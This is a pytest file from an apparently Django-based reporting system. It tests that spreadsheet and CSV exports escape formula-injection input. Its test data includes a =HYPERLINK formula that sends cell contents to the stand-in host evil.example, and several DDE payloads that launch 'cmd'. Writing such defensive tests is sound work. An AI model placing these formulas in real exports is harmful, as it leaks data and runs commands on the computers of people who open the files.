"""Formula injection (OWASP "CSV Injection"): text that a spreadsheet program would run —
``=HYPERLINK(…)``, ``+cmd``, ``@SUM(…)`` — comes out of every workbook and CSV file the
system writes as text, never as a live formula. Each test first builds the attack."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from nghiquyet.accounts.services import api_token_create
from nghiquyet.documents.plan_excel.template import plan_template
from nghiquyet.documents.render_xlsx import render_xlsx
from nghiquyet.documents.report import build_review
from nghiquyet.documents.submission_excel.template import submission_template
from nghiquyet.orgs.scopes import SYSTEM
from nghiquyet.plans import services as plan_services
from nghiquyet.reporting.models import SubmissionEntry
from nghiquyet.reporting.workflow import submission_save
from nghiquyet.text import csv_cell, csv_uncell, formula_risk
from tests.api.conftest import ApiClient
from tests.factories import make_report

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
OTHERS = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0")


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        (ATTACK, True),
        ("+cmd", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("＝1+1", True),
        ("-", True),
        ("- ghi chú gạch đầu dòng", True),
        ("-1,5", False),
        ("+3", False),
        ("-10%", False),
        ("1.234,5", False),
        ("Tỷ lệ hộ nghèo", False),
        ("", False),
    ],
)
def test_formula_risk_follows_owasp(text, risky):
    assert formula_risk(text) is risky
    escaped = csv_cell(text)
    assert escaped == ("'" + text if risky else text)
    assert csv_uncell(escaped) == text


def _formulas(data: bytes) -> list[str]:
    """The <f> elements of every sheet of an .xlsx: what Excel would compute."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(rb"<f[ >].*?</f>", z.read(name))
    return found


def _cells_with(data: bytes, text: str):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


@pytest.fixture
def poisoned(land):
    """A report whose target name and notes are formulas, as an import of text would make."""
    submission, reporter = make_report(land, "doc-2031")
    plan = submission.round.plan
    indicator = plan_services.indicator_get_or_create(
        acting_user=SYSTEM, code="doc-2031-x", name=ATTACK, unit_of_measure="người"
    )
    plan_services.target_create(
        acting_user=SYSTEM,
        plan=plan,
        code="5",
        name=ATTACK,
        indicator=indicator,
        order=9,
        direction="higher",
        target_value=4,
    )
    entries = list(SubmissionEntry.objects.filter(submission=submission).order_by("target__code"))
    rows = {e.pk: {"note": note} for e, note in zip(entries, (ATTACK, *OTHERS), strict=False)}
    submission = submission_save(
        acting_user=reporter, submission=submission, revision=submission.revision, rows=rows
    )
    return submission, reporter


def test_the_excel_review_writes_a_formula_name_as_text(poisoned):
    submission, _reporter = poisoned
    review = build_review(user=SYSTEM, plan=submission.round.plan, period=submission.round.period)
    data = render_xlsx(review)
    assert _formulas(data) == []
    cells = _cells_with(data, ATTACK)
    assert cells, "the name is in the workbook, unchanged"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_report_template_writes_formula_notes_as_text(poisoned):
    submission, reporter = poisoned
    data, _name = submission_template(user=reporter, submission=submission)
    assert _formulas(data) == []
    for text in (ATTACK, *OTHERS):
        cells = _cells_with(data, text)
        assert cells and all(c.quotePrefix for c in cells), text


def test_the_plan_template_writes_no_formula(poisoned):
    assert _formulas(plan_template(user=SYSTEM)) == []


def test_the_csv_export_escapes_formulas_and_reads_them_back(poisoned):
    submission, reporter = poisoned
    plan = submission.round.plan
    client = ApiClient(api_token_create(acting_user=reporter, name="kiểm thử")[1])
    response = client.get(
        f"/values/export?plan={plan.code}&period=2031&source=submissions&format=csv"
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    table = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    notes = {r["target_code"]: r["note"] for r in table}
    assert notes["1"] == "'" + ATTACK
    assert {notes["2"], notes["3"], notes["4"]} == {"'" + t for t in OTHERS}
    # No cell of the file begins with a formula character.
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        assert not any(formula_risk(cell) for cell in row), row
    # Sent back, the file changes nothing: the apostrophes come off again.
    back = client.post("/values/import.csv", text.encode(), content_type="text/csv")
    assert back.status_code == 200, back.json()
    assert back.json()["changed"] == 0
    assert SubmissionEntry.objects.get(submission=submission, target__code="1").note == ATTACK
